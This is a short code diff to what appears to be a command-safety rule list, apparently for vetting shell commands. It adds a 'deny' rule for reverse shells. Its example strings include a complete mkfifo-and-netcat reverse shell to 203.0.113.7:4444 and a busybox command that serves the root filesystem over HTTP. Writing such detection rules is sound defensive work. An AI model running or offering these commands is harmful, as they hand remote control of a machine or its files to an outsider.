@@ -29,3 +29,6 @@ static_rule("SHELL-007", "reverse-shell", "ask",
 static_rule("EXFIL-005", "exfiltration", "ask",
             "a file server publishes the root, a system folder or the home directory",
             "busybox httpd -f -p 8080 -h /")
+static_rule("SHELL-008", "reverse-shell", "deny",
+            "a shell is wired to a network connection (fifo or pipe reverse shell, reverse-shell tool)",
+            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f")
